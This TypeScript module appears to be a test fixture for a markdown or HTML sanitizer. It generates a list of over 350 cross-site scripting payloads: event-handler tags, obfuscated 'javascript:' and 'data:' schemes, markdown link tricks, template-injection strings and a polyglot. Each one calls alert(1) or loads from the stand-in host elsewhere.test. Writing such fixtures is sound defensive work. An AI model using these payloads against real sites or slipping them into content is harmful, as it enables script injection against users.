/** Each would run something, fetch something or break out, were it ever taken for more than text. */
const CALL = 'alert(1)';
const ELSEWHERE = 'http://elsewhere.test/x';

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'input autofocus',
  'details open',
  'video',
  'audio',
  'marquee',
  'a',
  'style',
  'math',
];

const elements = TAGS.flatMap((tag) =>
  HANDLERS.flatMap((handler) => [`<${tag} ${handler}=${CALL}>`, `<${tag}/${handler}="${CALL}">`]),
);

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java&#10;script:',
  'java%0Ascript:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&colon;',
  'javascript\u200B:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=',
  'blob:',
  'file:///',
  'ftp://elsewhere.test/',
  'view-source:',
  'intent://',
  'about:',
  '//elsewhere.test/',
  '\\\\elsewhere.test\\',
];

const links = SCHEMES.flatMap((scheme) => {
  const address = scheme + CALL;
  return [
    `[a](${address})`,
    `[a](<${address}>)`,
    `![a](${address})`,
    `<${address}>`,
    address,
    `[a]: ${address}\n\n[a]`,
    `[a](https://x.test "${address}")`,
  ];
});

const others = [
  `<script>${CALL}</script>`,
  `<script src=${ELSEWHERE}></script>`,
  `"><script>${CALL}</script>`,
  `'"><img src=x onerror=${CALL}>`,
  `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `<!--><script>${CALL}</script>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<svg><script>${CALL}</script></svg>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<object data="${ELSEWHERE}"></object>`,
  `<embed src="${ELSEWHERE}">`,
  `<link rel=stylesheet href=${ELSEWHERE}>`,
  `<base href="${ELSEWHERE}">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><button>x</button></form>`,
  `<style>@import '${ELSEWHERE}'</style>`,
  `<div style="background:url(${ELSEWHERE})">`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `![a](${ELSEWHERE}.png)`,
  `![a](${ELSEWHERE} "onerror=${CALL}")`,
  `[![a](${ELSEWHERE}.png)](https://x.test)`,
  `[a](https://x.test"onmouseover="${CALL})`,
  `[a](https://x.test/'onmouseover='${CALL})`,
  `[a](https://x.test/<img src=x onerror=${CALL}>)`,
  `<https://x.test/"onclick="${CALL}>`,
  `https://x.test/"onmouseover="${CALL}`,
  `\`<img src=x onerror=${CALL}>\``,
  `\`\`\`html\n<img src=x onerror=${CALL}>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${CALL}>\nx\n\`\`\``,
  `\`\`\`__proto__\nx\n\`\`\``,
  `\`\`\`constructor\nx\n\`\`\``,
  `~~~js" onload="${CALL}\nx\n~~~`,
  `| <img src=x onerror=${CALL}> | b |\n|---|:-:|\n| <script>${CALL}</script> | [a](javascript:${CALL}) |`,
  `- [x] <img src=x onerror=${CALL}>`,
  `> <iframe src=${ELSEWHERE}>`,
  `# <script>${CALL}</script>`,
  `**<b onclick=${CALL}>x</b>**`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `\\<script\\>${CALL}\\</script\\>`,
  `\u202E>tpircs/<)1(trela>tpircs<`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `javascript:/*--></title></style></textarea></script><svg onload='+/"/+/onmouseover=1/+/[*/[]/+${CALL}//'>`,
];

/** Over 350 texts that attack whoever shows them. */
export const HOSTILE_MARKUP: readonly string[] = [...elements, ...links, ...others];
